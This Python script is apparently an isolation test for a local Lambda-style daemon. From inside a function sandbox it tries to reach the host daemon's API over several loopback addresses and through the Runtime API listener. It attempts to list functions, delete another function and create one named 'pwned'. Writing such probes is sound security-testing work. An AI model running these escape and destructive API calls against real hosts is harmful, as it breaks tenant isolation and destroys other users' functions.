#!/usr/bin/env python3
"""Attack: reach the daemon's own API (the Lambda API on the host's 127.0.0.1:<port>, passed in
the event), directly and through the Runtime API listener the sandbox does reach."""
import http.client
import json
import os
import socket
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from attack_runtime import attempt, serve  # noqa: E402


def connect(host, port):
    s = socket.create_connection((host, port), timeout=2)
    s.close()
    return "connected"


def get(hostport, method, path, body=None):
    host, port = hostport.rsplit(":", 1)
    c = http.client.HTTPConnection(host, int(port), timeout=3)
    try:
        c.request(method, path, body=body, headers={"Content-Type": "application/json"})
        r = c.getresponse()
        return {"status": r.status, "body": r.read(300).decode(errors="replace")}
    finally:
        c.close()


def handler(event):
    port = int(event["daemon_port"])
    rapi = os.environ["AWS_LAMBDA_RUNTIME_API"]
    out = {
        "connect_127_0_0_1": attempt(connect, "127.0.0.1", port),
        "connect_localhost": attempt(connect, "localhost", port),
        "connect_0_0_0_0": attempt(connect, "0.0.0.0", port),
        "connect_ipv6_loopback": attempt(connect, "::1", port),
        "list_functions_direct": attempt(get, f"127.0.0.1:{port}", "GET", "/2015-03-31/functions/"),
        # The Runtime API is served by the daemon: does it also route the Lambda API?
        "via_runtime_api_list": attempt(get, rapi, "GET", "/2015-03-31/functions/"),
        "via_runtime_api_delete": attempt(get, rapi, "DELETE", "/2015-03-31/functions/" + event.get("other", "x")),
        "via_runtime_api_health": attempt(get, rapi, "GET", "/hearth/v1/health"),
        "via_runtime_api_create": attempt(get, rapi, "POST", "/2015-03-31/functions",
                                          json.dumps({"FunctionName": "pwned"})),
    }
    return out


serve(handler)
